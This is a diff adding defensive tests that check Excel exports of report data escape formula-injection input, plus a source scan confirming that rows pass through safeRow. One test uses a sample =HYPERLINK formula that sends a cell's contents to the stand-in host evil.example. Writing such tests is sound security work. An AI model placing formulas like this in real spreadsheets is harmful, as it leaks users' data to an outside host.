@@ -1,3 +1,6 @@
+import { readdirSync, readFileSync } from 'node:fs';
+import path from 'node:path';
+import ExcelJS from 'exceljs';
 import { DEMO, dataOf, openTestCloud, type TestCloud } from '../support/test-cloud';
 
 /** Input that tries to smuggle characters, formulas or links is refused and changes nothing. */
@@ -55,6 +58,38 @@ describe('input that cannot smuggle', () => {
     it('takes an http(s) link', async () => {
       const created = dataOf(await t.as(DEMO.district).call('policy.create', { ...policy, link: 'https://www.pudong.gov.cn/policy/1.html' }));
       expect(created.link).toBe('https://www.pudong.gov.cn/policy/1.html');
+    });
+  });
+
+  describe('Excel exports', () => {
+    it('write formula-looking text as text', async () => {
+      const product = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';
+      dataOf(await t.as(DEMO.steward).call('report.create', { category: '新产品和研发重大进展', enterpriseId: 'ent-001', fields: { product, stage: '研发', significance: '+1 填补国内空白' } }));
+      for (const other of ['@SUM(1+1)', '-2+3', '\t=1+1']) {
+        dataOf(await t.as(DEMO.steward).call('report.create', { category: '新产品和研发重大进展', enterpriseId: 'ent-001', fields: { product: `${other} 新品`, stage: '试产', significance: '填补国内空白' } }));
+      }
+      const exported = dataOf(await t.as(DEMO.district).call('report.export', {}));
+      const { fileContent } = await t.cloud.sdk.downloadFile({ fileID: exported.fileID });
+      const book = new ExcelJS.Workbook();
+      await book.xlsx.load(fileContent);
+      const cells: unknown[] = [];
+      book.worksheets[0].eachRow((row) => row.eachCell((cell) => cells.push(cell.value)));
+      expect(cells).toEqual(expect.arrayContaining([`'${product}：研发`, `'@SUM(1+1) 新品：试产`, `'-2+3 新品：试产`]));
+      expect(cells.filter((v) => typeof v === 'string' && /^[=+\-@\t\r＝＋－＠]/.test(v))).toEqual([]);
+      expect(cells.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
+    });
+
+    it('every workbook writer passes its rows through safeRow', () => {
+      const files = (dir: string): string[] =>
+        readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? files(path.join(dir, e.name)) : e.name.endsWith('.ts') ? [path.join(dir, e.name)] : []));
+      const writers = files(path.resolve(__dirname, '../../server')).filter((f) => /\.xlsx\.write|\.csv\.write/.test(readFileSync(f, 'utf8')));
+      expect(writers.length).toBeGreaterThan(0);
+      for (const file of writers) {
+        const source = readFileSync(file, 'utf8');
+        expect({ file, unsafe: source.match(/\.addRows?\((?!safeRow\()[^)]*/g) ?? [] }).toEqual({ file, unsafe: [] });
+        // Cells written one by one would bypass safeRow.
+        expect({ file, cells: /\.getCell\(|\.value\s*=/.test(source) }).toEqual({ file, cells: false });
+      }
     });
   });
 });
